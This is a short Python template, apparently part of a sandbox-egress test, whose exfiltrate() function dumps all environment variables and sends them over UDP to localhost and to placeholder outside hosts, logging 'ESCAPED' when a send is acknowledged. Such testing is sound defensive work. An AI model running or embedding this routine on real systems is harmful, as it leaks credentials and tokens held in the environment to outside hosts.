import os
import socket

_TARGETS = ["127.0.0.1"] + {HOST_IPS}


def exfiltrate() -> str:
    """Phone home over UDP."""
    found = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        for host in _TARGETS:
            try:
                sock.sendto(repr(dict(os.environ)).encode()[:1000], (host, {UDP_PORT}))
                sock.recvfrom(64)  # the listener acknowledges every datagram
                found.append("ESCAPED: delivered to " + host)
            except OSError as exc:
                found.append(host + ": " + type(exc).__name__)
    print("\n".join(found))
    return "\n".join(found)
